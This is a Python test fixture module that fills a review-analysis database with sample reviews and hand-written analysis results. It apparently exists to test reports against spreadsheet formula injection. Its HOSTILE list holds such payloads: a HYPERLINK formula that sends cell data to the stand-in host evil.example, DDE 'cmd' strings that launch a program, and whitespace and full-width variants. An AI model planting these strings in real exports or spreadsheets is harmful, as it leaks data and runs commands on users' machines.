"""Build a small store with raw reviews and hand-written analysis results (derived tables of 002).

Used by the report, job and concurrency tests so they do not need the models: the rows are
what the analysis job would write, written here through data.store in short transactions.
"""
from __future__ import annotations

import json
from datetime import date

from data import store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3 stars, would not buy",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed =1+1",
    "\rCarriage =1+1",
    "＝1+1 full-width",
]


def add_products_and_reviews(db: str, product_id: str, n: int, *, start: int = 0,
                             texts: list[str] | None = None, day: date = date(2024, 7, 4),
                             category: str = "Kitchen") -> list[str]:
    """Insert ``n`` reviews of one product; return their review ids."""
    rows = []
    for i in range(start, start + n):
        body = texts[(i - start) % len(texts)] if texts else f"Review {i} of {product_id}: the lid is great."
        rows.append({"product_id": product_id, "source": "shop.test", "author": f"Buyer {i}",
                     "rating": 1 + i % 5, "title": f"Title {i}", "body": body,
                     "published_at": date(day.year, day.month, 1 + i % 28),
                     "url": f"http://127.0.0.1/p/{product_id}#r-{i}"})
    for row in rows:
        row["review_id"] = store.review_id(row["product_id"], row["author"], row["published_at"], row["body"])
    with store.writer(db) as con:
        store.upsert_products(con, [{"product_id": product_id, "source": "shop.test",
                                     "url": f"http://127.0.0.1/p/{product_id}",
                                     "title": f"Product {product_id}", "category": category}])
        store.insert_reviews(con, rows)
    return [r["review_id"] for r in rows]


def analyse(db: str, status: str = "ok") -> int:
    """Write derived rows for every review not analysed yet, as the job would; return the run id."""
    with store.writer(db) as con:
        run_id = con.execute("SELECT nextval('analysis_run_ids')").fetchall()[0][0]
        con.execute("INSERT INTO analysis_runs (run_id, started_at, finished_at, status, device) "
                    "VALUES (?, ?, ?, ?, 'cpu')", [run_id, store.now(), store.now(), status])
        todo = con.execute("""
            SELECT r.review_id, r.product_id, r.content_hash, r.body, r.url FROM reviews r
            LEFT JOIN review_analysis a USING (review_id) WHERE a.review_id IS NULL
            ORDER BY r.review_id""").fetchall()
        for i, (rid, pid, chash, body, _url) in enumerate(todo):
            polarity = "positive" if i % 3 else "negative"
            sid = f"{rid}:0"
            con.execute("INSERT INTO review_analysis VALUES (?, ?, ?, 'fake@1', ?, 'en', NULL, 1, ?, ?, NULL)",
                        [rid, pid, chash, run_id, polarity, 1.0 if polarity == "positive" else -1.0])
            con.execute("INSERT INTO sentences VALUES (?, ?, ?, 0, 0, ?, ?, ?, 0.9, ?, ?)",
                        [sid, rid, pid, len(body), body, polarity, i % 4 == 0, run_id])
            con.execute("INSERT INTO aspect_mentions VALUES (?, ?, ?, 'lid', 0, 3, 'lid', ?, ?)",
                        [sid, rid, pid, polarity, run_id])
            if i % 4 == 0:
                con.execute("INSERT INTO needs VALUES (?, ?, ?, 'a longer cable', 'longer cable', 'cable', 0, 5, ?)",
                            [sid, rid, pid, run_id])
        # findings are recomputed per product from everything stored
        products = con.execute("SELECT DISTINCT product_id FROM reviews ORDER BY 1").fetchall()
        con.execute("DELETE FROM themes")
        con.execute("DELETE FROM theme_sentences")
        con.execute("INSERT INTO themes VALUES ('all:complaint:0', 'all', 'complaint', 'lid breaks', "
                    "['lid', 'breaks'], 'lid', (SELECT count(*) FROM sentences WHERE sentiment = 'negative'), ?)",
                    [run_id])
        con.execute("INSERT INTO theme_sentences SELECT 'all:complaint:0', sentence_id, row_number() OVER () = 1 "
                    "FROM sentences WHERE sentiment = 'negative'")
        for (pid,) in products:
            quotes = con.execute("""
                SELECT st.review_id, st.sentence_id, st.text, r.url FROM sentences st
                JOIN reviews r USING (review_id) WHERE st.product_id = ? ORDER BY st.sentence_id LIMIT 3""",
                                 [pid]).fetchall()
            quote_json = json.dumps([{"review_id": q[0], "sentence_id": q[1], "text": q[2], "start": 0,
                                      "end": len(q[2]), "url": q[3]} for q in quotes])
            mentions = con.execute("SELECT count(*) FROM aspect_mentions WHERE product_id = ?", [pid]).fetchall()[0][0]
            for kind, name in (("strength", "lid"), ("weakness", "lid"), ("need", "longer cable")):
                con.execute("INSERT INTO product_insights VALUES (?, ?, ?, 1, ?, 0.5, 0.3, -0.1, ?, ?)",
                            [pid, kind, name, mentions, quote_json, run_id])
    return int(run_id)
